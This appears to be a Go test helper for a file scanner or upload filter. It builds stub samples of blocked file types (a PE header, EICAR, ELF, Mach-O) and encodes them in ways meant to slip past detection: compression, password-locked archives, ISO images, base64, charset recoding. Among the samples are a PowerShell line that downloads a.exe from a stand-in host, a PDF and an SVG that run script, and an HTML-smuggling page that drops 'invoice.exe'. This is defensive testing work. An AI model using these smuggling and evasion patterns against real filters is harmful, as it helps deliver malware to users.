package evasion

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"
	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/korean"
	"golang.org/x/text/encoding/simplifiedchinese"
)

const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-` + `ANTIVIRUS-TEST-FILE!$H+H*`

// program is the beginning of a Windows program, as small as loaders take it.
func program() []byte {
	b := make([]byte, 512)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00\x4c\x01\x01\x00")
	binary.LittleEndian.PutUint16(b[0x80+20:], 0xe0)
	binary.LittleEndian.PutUint16(b[0x80+22:], 0x102)
	copy(b[0x80+24:], "\x0b\x01")
	return b
}

// samples are files of kinds that are closed, by name.
func samples() map[string][]byte {
	padded := func(s string) []byte { return append([]byte(s), make([]byte, 600)...) }
	iso := make([]byte, 40<<10)
	copy(iso[0x8000:], "\x01CD001\x01")
	return map[string][]byte{
		"exe": program(), "eicar": []byte(eicar),
		"elf": padded("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"), "macho": padded("\xcf\xfa\xed\xfe\x07\x00\x00\x01"),
		"macho32": padded("\xce\xfa\xed\xfe\x07\x00\x00\x00"), "machobig": padded("\xfe\xed\xfa\xcf\x01\x00\x00\x07"), "machobig32": padded("\xfe\xed\xfa\xce\x00\x00\x00\x07"),
		"fat": padded("\xca\xfe\xba\xbe\x00\x00\x00\x02\x01\x00\x00\x07\x00\x00\x00\x03"),
		"dex": padded("dex\n035\x00"), "cab": padded("MSCF\x00\x00\x00\x00"), "lnk": padded("\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"),
		"deb": padded("!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n"), "rpm": padded("\xed\xab\xee\xdb\x03\x00\x00\x00"),
		"crx": padded("Cr24\x03\x00\x00\x00"), "wasm": padded("\x00asm\x01\x00\x00\x00"), "ole": padded("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
		"iso": iso, "vhdx": padded("vhdxfile"), "class": padded("\xca\xfe\xba\xbe\x00\x00\x00\x34"),
		"sh": []byte("#!/bin/sh\necho hello\n"), "ps1": []byte("Invoke-WebRequest http://x.test/a.exe -OutFile a.exe\n"),
		"gif": append([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00"), make([]byte, 64)...),
		"pdf": []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
		"svg": []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
		"png": append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), make([]byte, 64)...),
		"smuggle": []byte(`<html><body><script>var b=atob("TVqQAAMAAAAEAAAA` + strings.Repeat("A", 200) + `");var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);` +
			`var l=new Blob([u],{type:"octet/stream"});var a=document.createElement("a");a.href=URL.createObjectURL(l);a.download="invoice.exe";a.click();</script></body></html>`),
	}
}

// makers turn a body into another: "zip a.exe" and the like.
var makers = map[string]func(t testing.TB, b []byte, arg string) ([]byte, error){
	"gzip": coder(func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }),
	"zlib": coder(func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }),
	"deflate": coder(func(w io.Writer) io.WriteCloser {
		f, err := flate.NewWriter(w, 6)
		if err != nil {
			return nil
		}
		return f
	}),
	"br": coder(func(w io.Writer) io.WriteCloser { return brotli.NewWriter(w) }),
	"zstd": coder(func(w io.Writer) io.WriteCloser {
		z, err := zstd.NewWriter(w)
		if err != nil {
			return nil
		}
		return z
	}),
	"zip":      func(_ testing.TB, b []byte, arg string) ([]byte, error) { return zipped(b, arg, 1) },
	"manyzip":  func(_ testing.TB, b []byte, arg string) ([]byte, error) { return zipped(b, arg, 70_000) },
	"tar":      tarred,
	"7z":       outside("7z", "7z", "a", "-y", "-bd"),
	"7zlocked": outside("7z", "7z", "a", "-y", "-bd", "-psecret", "-mhe=on"),
	"ziplock":  outside("zip", "7z", "a", "-y", "-bd", "-tzip", "-psecret"),
	"xz":       outside("xz", "7z", "a", "-y", "-bd", "-txz"),
	"iso":      image,
	"base64": func(_ testing.TB, b []byte, _ string) ([]byte, error) {
		return []byte(base64.StdEncoding.EncodeToString(b)), nil
	},
	"before": func(_ testing.TB, b []byte, arg string) ([]byte, error) {
		if s := samples()[strings.TrimPrefix(arg, "@")]; s != nil {
			return append(append([]byte(nil), s...), b...), nil
		}
		s, err := unescape(arg)
		return append([]byte(s), b...), err
	},
	"after": func(_ testing.TB, b []byte, arg string) ([]byte, error) {
		s, err := unescape(arg)
		return append(b, s...), err
	},
	"utf16le": wide(binary.LittleEndian), "utf16be": wide(binary.BigEndian),
	"utf32le": func(_ testing.TB, b []byte, _ string) ([]byte, error) {
		var out []byte
		for _, r := range string(b) {
			out = binary.LittleEndian.AppendUint32(out, uint32(r))
		}
		return out, nil
	},
	"windows-1251": recode(charmap.Windows1251), "gb18030": recode(simplifiedchinese.GB18030), "shift_jis": recode(japanese.ShiftJIS),
	"iso-2022-jp": recode(japanese.ISO2022JP), "euc-kr": recode(korean.EUCKR), "koi8-r": recode(charmap.KOI8R),
	"times": func(_ testing.TB, b []byte, arg string) ([]byte, error) {
		n := 0
		_, err := fmt.Sscanf(arg, "%d", &n)
		return bytes.Repeat(b, n), err
	},
	"cut": func(_ testing.TB, b []byte, arg string) ([]byte, error) {
		n := 0
		_, err := fmt.Sscanf(arg, "%d", &n)
		return b[:max(len(b)-n, 0)], err
	},
}

// body makes a body: "text" or @sample, then | makers.
func body(t testing.TB, expr string) ([]byte, error) {
	parts := strings.Split(expr, " | ")
	first := strings.TrimSpace(parts[0])
	var b []byte
	if name, ok := strings.CutPrefix(first, "@"); ok {
		s, known := samples()[name]
		if !known {
			return nil, fmt.Errorf("there is no sample %q", name)
		}
		b = s
	} else {
		text, rest, err := quoted(first)
		if err != nil || rest != "" {
			return nil, fmt.Errorf("%.60q is no body: %w", expr, errors.Join(err, errors.New("rest "+rest)))
		}
		b = []byte(text)
	}
	for _, p := range parts[1:] {
		name, arg, _ := strings.Cut(strings.TrimSpace(p), " ")
		make := makers[name]
		if make == nil {
			return nil, fmt.Errorf("nobody knows how to make %q", name)
		}
		var err error
		if b, err = make(t, b, arg); err != nil {
			return nil, fmt.Errorf("making %s: %w", name, err)
		}
	}
	return b, nil
}

func coder(open func(io.Writer) io.WriteCloser) func(testing.TB, []byte, string) ([]byte, error) {
	return func(_ testing.TB, b []byte, _ string) ([]byte, error) {
		var out bytes.Buffer
		w := open(&out)
		_, err := w.Write(b)
		err = errors.Join(err, w.Close())
		return out.Bytes(), err
	}
}

func zipped(b []byte, name string, n int) ([]byte, error) {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for i := range n {
		as := name
		if n > 1 {
			as = fmt.Sprintf("%d-%s", i, name)
		}
		w, err := z.CreateHeader(&zip.FileHeader{Name: as, Method: zip.Deflate})
		if err != nil {
			return nil, err
		}
		if _, err := w.Write(b); err != nil {
			return nil, err
		}
	}
	err := z.Close()
	return out.Bytes(), err
}

func tarred(_ testing.TB, b []byte, name string) ([]byte, error) {
	var out bytes.Buffer
	w := tar.NewWriter(&out)
	err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(b))})
	if err == nil {
		_, err = w.Write(b)
	}
	err = errors.Join(err, w.Close())
	return out.Bytes(), err
}

// errAbsent says that a program that makes a body is not installed.
var errAbsent = errors.New("is not installed")

func outside(ending, program string, args ...string) func(testing.TB, []byte, string) ([]byte, error) {
	return func(t testing.TB, b []byte, name string) ([]byte, error) {
		return packed(t, b, name, func(dir, file string) (*exec.Cmd, string) {
			out := filepath.Join(dir, "out."+ending)
			cmd := exec.Command(program, append(append([]string(nil), args...), out, file)...)
			cmd.Dir = dir
			return cmd, out
		})
	}
}

func image(t testing.TB, b []byte, name string) ([]byte, error) {
	return packed(t, b, name, func(dir, file string) (*exec.Cmd, string) {
		out := filepath.Join(dir, "out.iso")
		cmd := exec.Command("genisoimage", "-quiet", "-J", "-o", out, file)
		cmd.Dir = dir
		return cmd, out
	})
}

func packed(t testing.TB, b []byte, name string, how func(dir, file string) (*exec.Cmd, string)) ([]byte, error) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
		return nil, err
	}
	cmd, out := how(dir, name)
	if _, err := exec.LookPath(cmd.Path); err != nil {
		return nil, fmt.Errorf("%s %w", cmd.Path, errAbsent)
	}
	if text, err := cmd.CombinedOutput(); err != nil {
		return nil, fmt.Errorf("%w: %s", err, text)
	}
	return os.ReadFile(out)
}

func wide(order binary.AppendByteOrder) func(testing.TB, []byte, string) ([]byte, error) {
	return func(_ testing.TB, b []byte, arg string) ([]byte, error) {
		var out []byte
		if arg == "bom" {
			out = order.AppendUint16(out, 0xfeff)
		}
		for _, u := range utf16.Encode([]rune(string(b))) {
			out = order.AppendUint16(out, u)
		}
		return out, nil
	}
}

func recode(e encoding.Encoding) func(testing.TB, []byte, string) ([]byte, error) {
	return func(_ testing.TB, b []byte, _ string) ([]byte, error) { return e.NewEncoder().Bytes(b) }
}
